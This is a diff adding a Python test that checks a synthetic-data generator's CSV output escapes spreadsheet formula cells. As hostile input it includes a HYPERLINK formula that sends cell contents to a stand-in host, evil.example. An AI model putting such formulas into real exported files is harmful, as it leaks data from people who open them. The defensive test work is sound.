@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pandas as pd
@@ -126,3 +128,18 @@ def test_user_errors_exit_2(small_adult, tmp_path, capsys):
     assert "protected attribute" in capsys.readouterr().err
     assert generate(small_adult, "--rows", 10, "--out", tmp_path / "y.csv", "--stages", "pre-training") == 2
     assert "justification" in capsys.readouterr().err
+
+
+def test_csv_output_neutralises_formula_cells_copied_from_the_real_table(tmp_path):
+    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(A1)", "+1+1", "plain"]
+    real = pd.DataFrame({"note": hostile * 50, "age": [-3, 20, 31, 45] * 50})
+    real.to_csv(tmp_path / "real.csv", index=False)
+    out = tmp_path / "syn.csv"
+    assert (
+        generate(tmp_path / "real.csv", "--generator", "rules", "--rows", 200, "--seed", 1, "--out", out) == 0
+    )
+    rows = list(csv.DictReader(io.StringIO(out.read_text(), newline="")))
+    notes = {row["note"] for row in rows}
+    assert notes <= {"'" + h for h in hostile[:3]} | {"plain"} and len(notes) > 1
+    assert all(not note.startswith(("=", "+", "-", "@")) for note in notes)
+    assert pd.read_csv(out)["age"].dtype.kind in "if"  # typed numbers stay numbers, minus signs included
